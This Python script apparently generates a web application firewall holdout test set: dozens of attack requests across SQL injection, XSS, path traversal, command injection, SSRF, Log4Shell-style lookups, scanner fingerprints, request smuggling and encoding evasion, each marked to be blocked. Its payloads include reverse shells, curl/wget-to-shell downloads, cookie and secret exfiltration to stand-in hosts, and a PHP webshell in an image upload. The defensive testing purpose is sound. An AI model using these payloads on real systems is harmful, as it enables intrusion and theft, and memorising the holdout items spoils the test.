#!/usr/bin/python3
"""Writes tests/waf/holdout11/attacks/*.jsonl (written blind, from knowledge; no payload list copied)."""
import json
import os
import urllib.parse

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "attacks")
H = "shop.example.com"
E = {}


def q(s):
    return urllib.parse.quote(s, safe="")


def qs(pairs):
    return urllib.parse.urlencode([tuple(p) for p in pairs], quote_via=urllib.parse.quote)


def add(cat, **kw):
    E.setdefault(cat, []).append(kw)


# ---------------------------------------------------------------- sqli
add("sqli", target="/search/homes?" + qs([["price_min", "350000"], ["sort", "price_asc,(select case when (1=1) then 1 else 1/(select 0) end)"]]),
    profile="chrome", note="boolean/error sqli in a sort parameter of a real-estate search")
add("sqli", method="POST", target="/api/v2/contracts?page=1", profile="xhr",
    json={"filter": {"counterparty": "x' union select username,password_hash,null from users-- -"}},
    note="union in a JSON filter value")
add("sqli", method="POST", target="/checkout/promo", profile="form",
    form=[["code", "SAVE10' AND (SELECT 5521 FROM (SELECT(SLEEP(5)))qHkT)-- Xq"], ["cart", "c_88f1a"]],
    note="time-based MySQL in promo code form field")
add("sqli", target="/api/events/evt_1/seatmap?section=" + q("FLR-B');WAITFOR DELAY '0:0:7'--"), profile="xhr",
    note="MSSQL stacked WAITFOR in query")
add("sqli", target="/portfolio?range=1Y", profile="chrome",
    headers=[["Cookie", "ab_variant=checkout_v2' or pg_sleep(6) is null--; _ga=GA1.1.1928374655.1796551234"]],
    note="PostgreSQL pg_sleep in an A/B cookie")
add("sqli", target="/products/sneakers", profile="chrome",
    headers=[["X-Forwarded-For", "203.0.113.9' AND extractvalue(1,concat(0x7e,(select version())))-- "]],
    note="error-based extractvalue in XFF")
add("sqli", method="POST", target="/api/reports", profile="mobile_app",
    json={"user_id": "u_448120 OR 1=1", "reason": "spam", "details": "-"}, note="tautology in an id field")
add("sqli", target="/api/listings/map?status=" + q("for_sale") + "&zoom=" + q("12 procedure analyse(extractvalue(rand(),concat(0x3a,database())),1)"),
    profile="xhr", note="PROCEDURE ANALYSE error-based in numeric param")
add("sqli", target="/wiki/Special:Search?search=" + q("1' ORDER BY 9-- -") , profile="firefox", note="column-count probe")

# ---------------------------------------------------------------- xss
add("xss", method="POST", target="/wp-comments-post.php", profile="form", form=[
    ["comment", "Great recipe!<img src=x onerror=fetch('//evil.example/c?'+document.cookie)>"],
    ["author", "Chef"], ["email", "c@example.org"], ["comment_post_ID", "4812"]], note="img onerror in blog comment")
add("xss", method="PATCH", target="/api/me/profile", profile="mobile_app",
    json={"bio": "hi <svg/onload=alert(document.domain)> lol"}, note="SVG onload in a dating bio")
add("xss", target="/u/jess?ref=" + q("\"><script src=https://evil.example/x.js></script>"), profile="chrome",
    note="attribute breakout with script src in a ref param")
add("xss", method="POST", target="/api/channels/C04DEV/messages", profile="xhr",
    json={"text": "check [this](javascript:alert(localStorage.token)) out"}, note="javascript: URL in markdown link")
add("xss", method="PUT", target="/api/playlists/pl_3n2x/details", profile="xhr",
    json={"name": "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"}, note="iframe srcdoc in playlist name")
add("xss", target="/search?q=" + q("<details open ontoggle=eval(atob('YWxlcnQoMSk='))>"), profile="chrome_mobile",
    note="details ontoggle with atob")
add("xss", target="/", profile="chrome", headers=[["Referer", "https://evil.example/?<script>alert(1)</script>"]],
    note="script tag in Referer")
add("xss", method="POST", target="/upload", profile="form_multipart",
    multipart={"boundary": "----WebKitFormBoundaryA1b2C3d4E5f6G7h8", "parts": [
        {"name": "title", "data": "sunset"},
        {"name": "image", "filename": "pic.svg", "content_type": "image/svg+xml",
         "data": "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>document.location='https://evil.example/?c='+document.cookie</script></svg>"}]},
    note="SVG upload carrying a script")
add("xss", target="/r/c_8812/l/9?u=" + q("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), profile="chrome",
    note="data:text/html redirect target")

# ---------------------------------------------------------------- lfi
add("lfi", target="/print/4812?template=" + q("../../../../etc/passwd"), profile="firefox", note="classic traversal in a template param")
add("lfi", target="/orders/TKT-1/tickets.pdf?file=" + q("....//....//....//etc/shadow"), profile="safari",
    note="filter-stripping traversal")
add("lfi", target="/img/ph_1/w_100/..%252f..%252f..%252fetc%252fpasswd", profile="chrome_img", note="double-encoded traversal in path")
add("lfi", method="POST", target="/api/templates/render-preview", profile="xhr",
    json={"template": "php://filter/convert.base64-encode/resource=../config/database.php"}, note="php filter wrapper in JSON")
add("lfi", target="/docs/view?page=" + q("..\\..\\..\\windows\\win.ini"), profile="chrome", note="Windows backslash traversal")
add("lfi", target="/download?path=" + q("/proc/self/environ"), profile="chrome", note="/proc/self/environ")
add("lfi", target="/.git/config", profile="chrome", note="git config exposure")
add("lfi", method="POST", target="/apply/passport/documents", profile="form_multipart",
    multipart={"boundary": "----WebKitFormBoundaryqZ8x2Lm4Nn6Pp0Rr", "parts": [
        {"name": "doc_type", "data": "proof_of_address"},
        {"name": "file", "filename": "../../../var/www/html/shell.php", "content_type": "application/pdf", "data": "%PDF-1.4\n%%EOF\n"}]},
    note="traversal in multipart filename")

# ---------------------------------------------------------------- rce
add("rce", target="/v1/geocode?address=" + q("Berlin; cat /etc/passwd"), profile="api", note="semicolon command in geocode")
add("rce", method="POST", target="/api/v1/withdrawals", profile="xhr",
    json={"asset": "USDC", "address": "0x71C7656EC7ab88b098defB751B7401B5f6d8976F$(curl -s http://198.51.100.7/x|sh)"},
    note="command substitution piping curl to sh in a wallet address")
add("rce", method="POST", target="/support/tickets", profile="form",
    form=[["subject", "help"], ["description", "x"], ["category", "account`wget -O- http://198.51.100.7/a.sh|bash`"]],
    note="backticks in a select field")
add("rce", target="/tools/ping?host=" + q("8.8.8.8|nc -e /bin/sh 198.51.100.7 4444"), profile="chrome", note="nc reverse shell")
add("rce", method="POST", target="/hooks/ci", profile="none", headers=[["User-Agent", "() { :; }; /bin/bash -c 'id > /tmp/p'"]],
    json={"action": "completed"}, note="Shellshock in User-Agent")
add("rce", target="/convert?fmt=" + q("pdf&&powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="), profile="chrome",
    note="PowerShell encoded command")
add("rce", method="POST", target="/api/me/photos", profile="mobile_app",
    multipart={"boundary": "----okhttp7f3a", "parts": [
        {"name": "caption", "data": "hello\n/bin/bash -i >& /dev/tcp/198.51.100.7/9001 0>&1"},
        {"name": "photo", "filename": "a.jpg", "content_type": "image/jpeg", "data": "\u00ff\u00d8\u00ff"}]},
    note="bash /dev/tcp reverse shell after a newline in a multipart field")
add("rce", target="/api/export?name=" + q("report;{cat,/etc/passwd}"), profile="xhr", note="brace expansion without spaces")
add("rce", method="POST", target="/api/render", profile="xhr",
    json={"name": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"},
    note="Jinja2 SSTI to os.popen")

# ---------------------------------------------------------------- ssrf
add("ssrf", method="POST", target="/v1/webhooks/endpoints", profile="api",
    json={"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "events": ["order.paid"]},
    note="cloud metadata as webhook URL")
add("ssrf", target="/api/unfurl?url=" + q("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    profile="xhr", note="GCP metadata in link unfurl")
add("ssrf", target="/img/fetch?src=" + q("http://0x7f000001:8080/admin"), profile="chrome_img", note="hex loopback")
add("ssrf", method="POST", target="/api/import/ical", profile="xhr", json={"feed": "gopher://127.0.0.1:6379/_FLUSHALL%0D%0A"},
    note="gopher to redis")
add("ssrf", target="/api/preview?link=" + q("http://[::ffff:a9fe:a9fe]/latest/user-data"), profile="xhr", note="IPv6-mapped metadata address")
add("ssrf", method="POST", target="/api/photos/import", profile="xhr", json={"source_url": "file:///etc/hosts"}, note="file:// import")
add("ssrf", target="/proxy?u=" + q("http://2852039166/latest/meta-data/"), profile="chrome", note="decimal metadata IP")

# ---------------------------------------------------------------- java / log4shell / expression
add("java", target="/", profile="chrome", headers=[["User-Agent", "${jndi:ldap://198.51.100.7:1389/a}"]], note="JNDI in UA")
add("java", target="/api/search?q=x", profile="xhr", headers=[["X-Request-Id", "${${lower:j}ndi:${lower:r}mi://198.51.100.7/o}"]],
    note="obfuscated lookup in X-Request-Id")
add("java", target="/portfolio", profile="chrome", headers=[["Cookie", "lang=${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example/}"]],
    note="env exfil lookup in cookie")
add("java", method="POST", target="/api/track", profile="xhr", json={"event": "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/x}"},
    note="::- obfuscated lookup in JSON")
add("java", target="/events", profile="firefox", headers=[["Accept-Language", "${jndi:ldaps://evil.example:636/Exploit}"]],
    note="lookup in Accept-Language")
add("java", target="/login?redirect=" + q("${#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}"),
    profile="chrome", note="OGNL in redirect param")
add("java", method="POST", target="/api/v1/orders", profile="api",
    json={"product_id": "T(java.lang.Runtime).getRuntime().exec('curl evil.example')"}, note="SpEL T() in JSON")
add("java", method="POST", target="/hooks/payments", profile="none", headers=[
    ["User-Agent", "Stripe/1.0"], ["X-Forwarded-Host", "${jndi:ldap://evil.example/s}"]], json={"id": "evt"}, note="lookup in X-Forwarded-Host of a webhook")

# ---------------------------------------------------------------- scanner
add("scanner", target="/wp-login.php", profile="none", headers=[["User-Agent", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"]],
    note="WPScan UA")
add("scanner", target="/index.php?id=1", profile="none", headers=[["User-Agent", "sqlmap/1.7.12#stable (https://sqlmap.org)"]],
    note="sqlmap UA")
add("scanner", target="/", profile="none", headers=[["User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"]],
    note="Nikto UA")
add("scanner", target="/nice%20ports%2C/Tri%6Eity.txt%2ebak", profile="none", headers=[["User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]],
    note="Nmap NSE probe")
add("scanner", target="/.env", profile="none", headers=[["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36"]],
    note=".env probe with a stale browser UA")
add("scanner", target="/actuator/env", profile="none", headers=[["User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"]],
    note="Nuclei probing Spring actuator")
add("scanner", target="/FUZZ-admin-backup.zip", profile="none", headers=[["User-Agent", "Fuzz Faster U Fool v2.1.0-dev"]], note="ffuf UA")
add("scanner", target="/phpmyadmin/index.php", profile="none", headers=[["User-Agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"]],
    note="masscan UA on phpmyadmin")

# ---------------------------------------------------------------- protocol (raw)
R = "Host: " + H + "\r\n"
add("protocol", raw="POST /api/cart/holds HTTP/1.1\r\n" + R + "Content-Type: application/json\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n" + R + "\r\n",
    note="CL+TE smuggling")
add("protocol", raw="POST /api/track HTTP/1.1\r\n" + R + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    note="two Transfer-Encoding headers")
add("protocol", raw="GET / HTTP/1.1\r\n" + R + "X-Note: a\r\n  folded continuation\r\n\r\n", note="obs-fold")
add("protocol", raw="GET /search?q=a%00b HTTP/1.1\r\n" + R + "User-Agent: curl/8.4.0\r\nX-Trace: ab\x01cd\r\n\r\n", note="control character in a header value")
add("protocol", raw="POST /api/track HTTP/1.1\r\n" + R + "Transfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n", note="bad chunk size")
add("protocol", raw="GET /../../etc/passwd HTTP/1.1\r\n" + R + "\r\n", note="traversal in the raw request line")
add("protocol", raw="GET / HTTP/1.1\r\n" + R + "Host: internal.admin.local\r\n\r\n", note="duplicate Host")
add("protocol", raw="GET / HTTP/1.1\r\nContent-Length: 0\r\n\r\n", note="HTTP/1.1 without Host")
add("protocol", raw="DEBUG /default.aspx HTTP/1.1\r\n" + R + "Command: stop-debug\r\nContent-Length: 0\r\n\r\n", note="DEBUG method")
add("protocol", target="/redirect?to=" + "%2Fhome%0D%0ASet-Cookie%3A%20admin%3D1", profile="chrome", note="CRLF header injection in a param")

# ---------------------------------------------------------------- evasion by encoding
add("evasion", target="/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", profile="chrome", note="double-encoded script tag")
add("evasion", target="/api/search?q=%u003Cimg%20src%3Dx%20onerror%3Dalert(1)%u003E", profile="xhr", note="%u encoded angle brackets")
add("evasion", target="/print/1?template=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", profile="chrome", note="overlong UTF-8 dots")
add("evasion", target="/api/listings?status=" + q("1/**/UNION/**/SELECT/**/user,pass/**/FROM/**/admins"), profile="xhr", note="comment-split union")
add("evasion", target="/api/listings?status=" + q("1 UnIoN%0aSeLeCt 1,2,@@version"), profile="xhr", note="mixed case with encoded newline inside value")
add("evasion", method="POST", target="/api/chat/conversations/cv_1/messages", profile="xhr",
    headers=[["Content-Type", "application/json"]],
    body='{"text":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}', note="JSON \\u escapes of <script> on the wire (decoded by the JSON parser)")
add("evasion", target="/tools/ping?host=" + q("127.0.0.1;c'a't /e''tc/pa\"ss\"wd"), profile="chrome", note="quote-split command")
add("evasion", target="/tools/ping?host=" + q("127.0.0.1;cat${IFS}/etc${IFS}/passwd"), profile="chrome", note="IFS for spaces")
add("evasion", method="POST", target="/checkout/promo", profile="form",
    headers=[["Content-Type", "application/x-www-form-urlencoded; charset=ibm037"]],
    body="".join("%%%02X" % b for b in "code".encode("cp037")) + "=" + "".join("%%%02X" % b for b in "' union select password from users--".encode("cp037")),
    note="form body encoded in IBM037 (EBCDIC) per its charset")
add("evasion", target="/search?q=safe&q=" + q("' or '1'='1"), profile="chrome", note="parameter pollution with a second tautology value")
add("evasion", target="/api/search?q=" + q("<scr<script>ipt>alert(1)</scr</script>ipt>"), profile="xhr", note="nested tag to beat naive stripping")

# ---------------------------------------------------------------- added before the commit of the set, same rules
add("sqli", method="POST", target="/apply/passport/documents", profile="form_multipart",
    multipart={"boundary": "----WebKitFormBoundaryqZ8x2Lm4Nn6Pp0Rr", "parts": [
        {"name": "sort'||(select pg_sleep(5))||'", "data": "asc"},
        {"name": "doc_type", "data": "proof_of_address"}]}, note="sqli in a multipart part name")
add("rce", method="POST", target="/api/albums/al_12/avatar", profile="api_multipart",
    multipart={"boundary": "7MA4YWxkTrZu0gW", "parts": [
        {"name": "file", "filename": "cover.php.jpg", "content_type": "image/jpeg",
         "data": "GIF89a;<?php echo shell_exec($_GET['c']); ?>"}]}, note="PHP webshell behind a GIF header in an image upload")


def main():
    os.makedirs(OUT, exist_ok=True)
    total = 0
    for cat, es in E.items():
        with open(os.path.join(OUT, cat + ".jsonl"), "w", encoding="utf-8") as f:
            for n, e in enumerate(es, 1):
                e = {k: v for k, v in e.items() if v is not None}
                row = {"id": "h11-%s-%03d" % (cat, n), "category": cat, "expect": "block"}
                row.update(e)
                f.write(json.dumps(row, ensure_ascii=False) + "\n")
                total += 1
    print("attacks", total, "in", len(E), "families")


if __name__ == "__main__":
    main()
